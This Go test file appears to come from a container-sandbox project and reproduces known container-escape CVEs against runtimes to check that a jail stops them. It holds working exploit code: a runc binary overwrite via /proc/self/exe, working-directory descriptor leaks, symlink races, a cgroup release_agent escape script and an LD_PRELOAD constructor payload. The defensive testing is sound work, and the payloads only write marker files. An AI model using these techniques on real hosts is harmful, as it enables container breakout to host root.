package cve

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"

	"agentjail.dev/tests/engine"
	"agentjail.dev/tests/env"
)

// attacks are the exploits, each as its advisory describes it.
var attacks = []attack{
	{"CVE-2019-5736", "overwrite the runtime through /proc/PID/exe during an exec", overwriteRuntime, []string{"runc-old"}, &oldRunc},
	{"CVE-2024-21626", "an image whose WORKDIR is a descriptor of the runtime", imageWorkdir, []string{"runc-old"}, nil},
	{"CVE-2024-21626", "any descriptor as working directory", anyWorkdir, []string{"runc-old"}, nil},
	{"CVE-2024-21626", "exec with a descriptor as working directory", execWorkdir, []string{"runc-old"}, nil},
	{"CVE-2024-21626", "exec into a link to a descriptor that the container made", execLink, []string{"runc-old"}, nil},
	{"CVE-2025-31133", "a volume at /dev whose null is a link: masks show what it leads to", maskByVolume, []string{"runc-old"}, nil},
	{"CVE-2025-31133", "an image whose /dev/null is a link", maskByImage, nil, nil},
	{"CVE-2025-52565", "a volume at /dev whose console is a link: the runtime empties what it leads to", consoleByVolume, []string{"runc-old"}, nil},
	{"CVE-2025-52881", "an image with files in /proc: the runtime's settings go where they lead", procByImage, []string{"runc-old"}, nil},
	{"CVE-2025-52881", "a directory on the way to a nested mount is swapped for a link to / meanwhile", devByRace, nil, nil},
	{"CVE-2025-52881", "a mount point in a shared directory is swapped for a link to /proc meanwhile", procByRace, nil, nil},
	{"CVE-2026-41579", "an image whose /dev is a link: the runtime removes and makes files there", devLink, []string{"runc-old"}, nil},
	{"CVE-2020-15257", "connect to an abstract socket of the host from its network", abstractSocket, []string{"runc"}, nil},
	{"CVE-2022-0492", "with CAP_SYS_ADMIN: name a program of the container as release_agent", releaseAgent, []string{"runc"}, nil},
	{"CVE-2022-0492", "unprivileged: open release_agent from user and cgroup namespaces of one's own", releaseAgentUserns, []string{"runc"}, nil},
	{"CVE-2025-23266", "a hook inherits LD_PRELOAD from the image", hookPreload, []string{"runc-old"}, nil},
}

// secret makes a file on the host that no container may see or change, and returns its path and text.
func secret(t *testing.T) (path, text string) {
	t.Helper()
	dir := hostDir(t)
	path = filepath.Join(dir, "secret")
	text = fmt.Sprintf("secret of %s\n", dir)
	env.Check(t, os.WriteFile(path, []byte(text), 0o644))
	return path, text
}

// hostDir makes a directory of a user's on the host.
func hostDir(t *testing.T) string {
	t.Helper()
	dir := engine.TempDir(t, base, "host-")
	env.Check(t, errors.Join(os.Chmod(dir, 0o755), os.Chown(dir, 1000, 1000)))
	return dir
}

// image makes an image that is removed with the test.
func image(t *testing.T, programs, links map[string]string, changes ...string) string {
	t.Helper()
	name := strings.ToLower(strings.NewReplacer("/", "-", " ", "-", ":", "-", ",", "-").Replace(filepath.Base(hostDir(t))))
	env.Check(t, docker.ImportBusyboxWith(name, programs, links, changes...))
	t.Cleanup(func() { docker.For(t).Docker("rmi", "-f", name) })
	return name
}

// above is a path from a working directory outside the container to a file of the host.
func above(path string) string { return strings.Repeat("../", 20) + path[1:] }

// printed is all output of a command, for the report.
func result(r engine.Result) string {
	return fmt.Sprintf("exit code %d: %s %s", r.Code, r.Stdout, r.Stderr)
}

// overwriteRuntime: the image has a program whose interpreter is /proc/self/exe. When the runtime's exec starts it, the
// runtime's own binary runs in the container; another process of the container waits for that, opens the binary, and
// writes it as soon as it has ended.
func overwriteRuntime(t *testing.T, s system) (bool, string) {
	good := env.Read(t, oldRunc)
	img := image(t, map[string]string{"/evil": "#!/proc/self/exe\n"}, nil)
	d := docker.For(t)
	id := d.Detached("--runtime="+s.name, img, "probe", "overwrite")
	env.Eventually(d, "the exploit waits", func() bool { return strings.Contains(d.Must("logs", id), "waiting") })
	t.Cleanup(func() {
		if err := os.WriteFile(oldRunc+".good", good, 0o755); err != nil {
			t.Error(err)
		}
		if err := os.Rename(oldRunc+".good", oldRunc); err != nil {
			t.Error(err)
		}
	})
	for range 15 {
		d.Docker("exec", id, "/evil")
		// The exploit prints each binary that it opened when it is done with it.
		if now, err := os.ReadFile(oldRunc); err == nil && !bytes.Equal(now, good) {
			return true, fmt.Sprintf("the runtime is now %q", short(string(now[:min(len(now), 60)])))
		}
	}
	env.Eventually(d, "the exploit is done", func() bool {
		log := d.Must("logs", id)
		return strings.Count(log, "saw") == strings.Count(log, "gave up")
	})
	now := env.Read(t, oldRunc)
	return !bytes.Equal(now, good), d.Must("logs", id)
}

// workdirs are descriptors that are tried as an image's WORKDIR: first those that the old runc has open there, most often.
var workdirs = []int{11, 8, 7, 9, 10, 12, 13, 14, 6, 5, 15, 16, 17, 18, 19, 20, 4, 3}

// workdirImage makes the image with one of them, the first time it is called.
func workdirImage(fd int) (string, error) {
	workdirImages.Lock()
	defer workdirImages.Unlock()
	name := fmt.Sprintf("workdir-%d", fd)
	if workdirImages.made[fd] {
		return name, nil
	}
	err := docker.ImportBusyboxWith(name, nil, nil, fmt.Sprintf("WORKDIR /proc/self/fd/%d", fd))
	workdirImages.made[fd] = err == nil
	return name, err
}

var workdirImages = struct {
	sync.Mutex
	made map[int]bool // by descriptor
}{made: map[int]bool{}}

// imageWorkdir: Docker hands the image's WORKDIR on as it is.
func imageWorkdir(t *testing.T, s system) (bool, string) {
	path, text := secret(t)
	seen := ""
	tries := workdirs[:3] // anyWorkdir has the rest
	if !s.jail {
		// Which number it has depends on what the runtime's threads were doing meanwhile.
		tries = slices.Repeat(workdirs, 3)
	}
	for _, fd := range tries {
		img, err := workdirImage(fd)
		env.Check(t, err)
		r := docker.For(t).Docker("run", "--rm", "--runtime="+s.name, img, "cat", above(path))
		if strings.Contains(r.Stdout, text) {
			return true, fmt.Sprintf("read %s through descriptor %d", path, fd)
		}
		seen += result(r) + "; "
	}
	return false, seen
}

// anyWorkdir tries all descriptors, in several spellings.
func anyWorkdir(t *testing.T, s system) (bool, string) {
	path, text := secret(t)
	b := engine.NewBundle(t, base)
	b.Spec.Process.Args = []string{"/bin/busybox", "cat", above(path)}
	var seen string
	for fd := 3; fd <= 12; fd++ {
		for _, dir := range []string{"/proc/self/fd/%d", "/proc/self/fd/%d/../..", "/proc/1/fd/%d", "//proc/./self/fd/%d/"} {
			b.Spec.Process.Cwd = fmt.Sprintf(dir, fd)
			out, err := b.Run(t, s.caller())
			if strings.Contains(out, text) {
				return true, fmt.Sprintf("read %s from %s", path, b.Spec.Process.Cwd)
			}
			seen = fmt.Sprint(out, err)
		}
	}
	return false, seen
}

// execWorkdir: docker exec -w, chosen by any user who may run commands in a container.
func execWorkdir(t *testing.T, s system) (bool, string) {
	return execIn(t, s, func(fd int) string { return fmt.Sprintf("/proc/self/fd/%d", fd) })
}

// execLink: the same through a link of the container's own, which looks like any directory from outside.
func execLink(t *testing.T, s system) (bool, string) {
	return execIn(t, s, func(fd int) string { return fmt.Sprintf("/work%d", fd) })
}

func execIn(t *testing.T, s system, dir func(fd int) string) (bool, string) {
	path, text := secret(t)
	d := docker.For(t)
	id := d.Detached("--runtime="+s.name, engine.Busybox, "sh", "-c", "for i in 3 4 5 6 7 8 9 10 11 12; do ln -s /proc/self/fd/$i /work$i; done; echo linked; sleep 3600")
	env.Eventually(d, "the links", func() bool { return strings.Contains(d.Must("logs", id), "linked") })
	var seen string
	tries := []int{3, 4, 5, 6, 7, 8, 9, 10, 11, 12}
	if !s.jail {
		tries = slices.Repeat(tries, 3) // as in imageWorkdir
	}
	for _, fd := range tries {
		r := d.Docker("exec", "-w", dir(fd), id, "/bin/busybox", "cat", above(path))
		if strings.Contains(r.Stdout, text) {
			return true, fmt.Sprintf("read %s from %s", path, dir(fd))
		}
		seen = result(r)
	}
	return false, seen
}

// fakeDev makes a directory for /dev, with one of the names a link.
func fakeDev(t *testing.T, name, to string) string {
	t.Helper()
	dir := hostDir(t)
	for _, l := range [][2]string{{name, to}, {"ptmx", "pts/ptmx"}, {"fd", "/proc/self/fd"}} {
		env.Check(t, os.Symlink(l[1], filepath.Join(dir, l[0])))
	}
	return dir
}

// masked reads the paths that every container has masked, and reports whether one shows what the exploit's link leads to.
func masked(out string) (bool, string) { return strings.Contains(out, "redirected"), out }

const readMasked = "cat /proc/keys /proc/timer_list /proc/kcore /proc/sched_debug 2>&1 | head -c 1000; true"

// maskByVolume: the runtime covers a masked path with the container's /dev/null; a link there has it mount something
// else on it, writable, which the real exploit lets be a kernel setting.
func maskByVolume(t *testing.T, s system) (bool, string) {
	dev := fakeDev(t, "null", "/redirect")
	img := image(t, map[string]string{"/redirect": "redirected\n"}, nil)
	r := docker.For(t).Docker("run", "--rm", "--runtime="+s.name, "-v", dev+":/dev", img, "sh", "-c", readMasked)
	return masked(result(r))
}

// maskByImage: with the usual mount at /dev the image's is covered, under any runtime.
func maskByImage(t *testing.T, s system) (bool, string) {
	b := engine.NewBundle(t, base)
	env.Check(t, os.Symlink("/redirect", filepath.Join(b.Rootfs, "dev/null")))
	env.Check(t, os.WriteFile(filepath.Join(b.Rootfs, "redirect"), []byte("redirected\n"), 0o666))
	b.Spec.Process.Args = []string{"sh", "-c", readMasked}
	out, err := b.Run(t, s.caller())
	return masked(fmt.Sprint(out, err))
}

// consoleByVolume: with a terminal, the runtime makes /dev/console as host root before the container's user is set. The
// link leads to a file of host root in a directory of uid 1000, as whom the container runs.
func consoleByVolume(t *testing.T, s system) (bool, string) {
	path, text := secret(t)
	directory := filepath.Dir(path)
	env.Check(t, os.Chown(directory, 1000, 1000))
	dev := fakeDev(t, "console", "/work/secret")
	b := engine.NewBundle(t, base)
	b.Spec.Mounts[1] = specs.Mount{Destination: "/dev", Type: "bind", Source: dev, Options: []string{"rbind", "rw"}}
	b.Mount(directory, "/work")
	b.Spec.Process.Terminal = true
	b.Spec.Process.User = specs.User{UID: 1000, GID: 1000}
	b.Write(t)
	id := b.ID()
	term := engine.OnTerminal(t, 24, 80, b.Command(context.Background(), s.caller(), "run", "--bundle", b.Dir, id))
	term.Wait()
	_, _, _ = b.Call(t, s.caller(), "delete", "--force", id)
	now := env.Read(t, path)
	return string(now) != text, fmt.Sprintf("root's file holds %q; %s", now, term.Said())
}

// procByImage: the runtime writes kernel settings and its own process attributes through /proc, which is the image's
// directory here. Its link leads to a file of host root in a mounted directory.
func procByImage(t *testing.T, s system) (bool, string) {
	path, text := secret(t)
	b := engine.NewBundle(t, base)
	b.Unmount("/proc")
	b.Mount(filepath.Dir(path), "/work")
	at := filepath.Join(b.Rootfs, "proc/sys/net/core")
	env.Check(t, os.MkdirAll(at, 0o755))
	env.Check(t, os.Symlink("/work/secret", filepath.Join(at, "somaxconn")))
	b.Spec.Linux.Sysctl = map[string]string{"net.core.somaxconn": "redirected"}
	b.Spec.Process.User = specs.User{UID: 1000, GID: 1000}
	out, rerr := b.Run(t, s.caller())
	now := env.Read(t, path)
	return string(now) != text, fmt.Sprintf("root's file holds %q; %s%v", now, out, rerr)
}

// raceRounds is how often a race is run; each round is a container.
const raceRounds = 12

// swapping exchanges two names in a directory until it is stopped, and reports how often it did.
func swapping(dir string) (stop func() int) {
	end, ended := make(chan struct{}), make(chan int)
	go func() {
		swaps, tick := 0, time.Tick(100*time.Microsecond) // leaves the processor to the runtime
		for {
			select {
			case <-end:
				ended <- swaps
				return
			case <-tick:
				if unix.Renameat2(unix.AT_FDCWD, filepath.Join(dir, "x"), unix.AT_FDCWD, filepath.Join(dir, "y"), unix.RENAME_EXCHANGE) == nil {
					swaps++
				}
			}
		}
	}()
	return func() int { close(end); return <-ended }
}

// devByRace: a directory is mounted inside another, shared one, in which somebody swaps a directory on the way for a link
// to /. The mount then covers the container's /dev, and the runtime makes its device nodes and links in a directory of the
// host's. Whether a round hits is luck; a runtime that notices afterwards leaves the files behind.
func devByRace(t *testing.T, s system) (bool, string) {
	shared, other := hostDir(t), hostDir(t)
	env.Check(t, errors.Join(os.MkdirAll(filepath.Join(shared, "x/dev"), 0o777), os.Symlink("/", filepath.Join(shared, "y"))))
	stop := swapping(shared)
	b := engine.NewBundle(t, base)
	b.Mount(shared, "/shared")
	b.Mount(other, "/shared/x/dev")
	started := 0
	for range 3 * raceRounds {
		if _, err := b.Run(t, s.caller()); err == nil {
			started++
		}
	}
	if swaps := stop(); swaps < raceRounds {
		t.Errorf("only %d swaps in %d rounds: no race", swaps, 3*raceRounds)
	}
	var names []string
	entries, err := os.ReadDir(other)
	env.Check(t, err)
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return len(names) > 0, fmt.Sprintf("%d of %d containers started; the other directory holds %v", started, 3*raceRounds, names)
}

// procByRace: while containers start with a mount inside a shared directory, somebody swaps the mount point for a link to
// /proc, so that what the runtime mounts there covers what it then writes to. Whether a round hits is luck: no old
// runtime has to fall, but no jail may.
func procByRace(t *testing.T, s system) (bool, string) {
	shared := hostDir(t)
	env.Check(t, os.Mkdir(filepath.Join(shared, "x"), 0o777))
	env.Check(t, os.Symlink("/proc/self", filepath.Join(shared, "y")))
	stop := swapping(shared)
	b := engine.NewBundle(t, base)
	b.Mount(shared, "/shared")
	b.Spec.Mounts = append(b.Spec.Mounts, specs.Mount{Destination: "/shared/x/attr", Type: "tmpfs", Source: "tmpfs", Options: []string{"mode=777"}})
	b.Spec.Linux.Sysctl = map[string]string{"net.core.somaxconn": "77"}
	b.Spec.Process.Args = []string{"sh", "-c", "cat /proc/sys/net/core/somaxconn; grep -E ' /proc/(self|[0-9]+)/' /proc/self/mountinfo; echo end"}
	started, reached, seen := 0, false, ""
	for range raceRounds {
		out, err := b.Run(t, s.caller())
		if err == nil {
			started++
			if out != "77\nend\n" {
				reached, seen = true, out
			}
		} else {
			seen = err.Error()
		}
	}
	swaps := stop()
	if swaps < raceRounds {
		t.Errorf("only %d swaps in %d rounds: no race", swaps, raceRounds)
	}
	return reached, fmt.Sprintf("%d of %d containers started, %d swaps; %s", started, raceRounds, swaps, seen)
}

// devLink: the runtime completes /dev by names below the root file system's path, and so follows the image's link out of
// it: to a directory of the host here, whose file "ptmx" it removes. (Docker's storage covers such a link; other engines
// pass it on.)
func devLink(t *testing.T, s system) (bool, string) {
	victim := hostDir(t)
	env.Check(t, os.WriteFile(filepath.Join(victim, "ptmx"), []byte("the host's\n"), 0o644))
	b := engine.NewBundle(t, base)
	env.Check(t, os.RemoveAll(filepath.Join(b.Rootfs, "dev")))
	env.Check(t, os.Symlink(victim, filepath.Join(b.Rootfs, "dev")))
	out, rerr := b.Run(t, s.caller())
	var names []string
	entries, err := os.ReadDir(victim)
	env.Check(t, err)
	for _, e := range entries {
		names = append(names, e.Name())
	}
	text, err := os.ReadFile(filepath.Join(victim, "ptmx"))
	return len(names) != 1 || err != nil || string(text) != "the host's\n", fmt.Sprintf("the directory holds %v; %s%v", names, out, rerr)
}

// abstractSocket: the name is like those of containerd's shims before its fix; who listens is the test.
func abstractSocket(t *testing.T, s system) (bool, string) {
	d := docker.For(t)
	name := "@/containerd-shim/" + filepath.Base(base) + "-" + s.name + ".sock@"
	var l net.Listener
	err := d.InNetns(func() (err error) { l, err = net.Listen("unix", name); return err })
	env.Check(t, err)
	defer l.Close()
	r := d.Docker("run", "--rm", "--runtime="+s.name, "--network", "host", "-e", "PROBE_ABSTRACT="+name, engine.Busybox, "probe", "attempts", "abstract_shim_socket")
	return strings.Contains(r.Stdout, `"errno":""`), result(r)
}

// releaseAgent: the classic way out of a container with CAP_SYS_ADMIN. The kernel runs the agent as host root; this one
// leaves a mark.
func releaseAgent(t *testing.T, s system) (bool, string) {
	dir := hostDir(t)
	mark := filepath.Join(dir, "escaped")
	name := engine.NamedHierarchy(t, base)
	script := `set -e
layer=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n 1)
printf '#!/bin/sh\nid -u > ` + mark + `\n' > /agent; chmod 755 /agent
mkdir /tmp/cg; mount -t cgroup -o none,name=` + name + ` cgroup /tmp/cg; echo mounted
mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; echo "$layer/agent" > /tmp/cg/release_agent; echo armed
sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'; sleep 1
rmdir /tmp/cg/x; umount /tmp/cg`
	r := docker.For(t).Docker("run", "--rm", "--runtime="+s.name, "--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined", engine.Busybox, "sh", "-c", script)
	_, err := os.Stat(mark)
	return err == nil || strings.Contains(r.Stdout, "armed"), fmt.Sprintf("mark on the host: %v; %s", err == nil, result(r))
}

// releaseAgentUserns: the unprivileged form. It stops at an open file: kernels before the fix would have let it write.
func releaseAgentUserns(t *testing.T, s system) (bool, string) {
	r := docker.For(t).Docker("run", "--rm", "--runtime="+s.name, "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined", engine.Busybox, "probe", "release-agent", engine.NamedHierarchy(t, base))
	return strings.Contains(r.Stdout, `"opened"`), result(r)
}

// hookPreload: container toolkits add hooks to every container; one that runs in the container's namespaces inherits the
// runtime's environment, which has the image's LD_PRELOAD by then, and its working directory is the image.
func hookPreload(t *testing.T, s system) (bool, string) {
	gcc, err := exec.LookPath("gcc")
	if err != nil {
		t.Skip("needs gcc (hack/deps.sh installs it):", err)
	}
	dir := hostDir(t)
	mark := filepath.Join(dir, "escaped")
	b := engine.NewBundle(t, base)
	source := filepath.Join(dir, "poc.c")
	program := `#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void poc(void)
{
	int fd = open(getenv("POC_MARK"), O_CREAT | O_WRONLY, 0600);
	if (fd >= 0) { (void)!write(fd, "escaped\n", 8); close(fd); }
}
`
	env.Check(t, os.WriteFile(source, []byte(program), 0o644))
	if out, err := exec.Command(gcc, "-shared", "-fPIC", "-o", filepath.Join(b.Rootfs, "poc.so"), source).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	toolkit := filepath.Join(dir, "toolkit-hook")
	env.Check(t, copyFile("/usr/bin/true", toolkit))
	b.Spec.Process.Env = append(b.Spec.Process.Env, "LD_PRELOAD=/proc/self/cwd/poc.so", "POC_MARK="+mark)
	b.Spec.Process.Args = []string{"/bin/busybox", "true"} // static: it preloads nothing
	hook := []specs.Hook{{Path: toolkit, Args: []string{"toolkit-hook", "create-symlinks"}}}
	//lint:ignore SA1019 prestart is what toolkits use
	b.Spec.Hooks = &specs.Hooks{Prestart: hook, CreateRuntime: hook, CreateContainer: hook, StartContainer: hook, Poststart: hook, Poststop: hook}
	out, rerr := b.Run(t, s.caller())
	_, err = os.Stat(mark)
	return err == nil, fmt.Sprintf("mark on the host: %v; %s%v", err == nil, out, rerr)
}
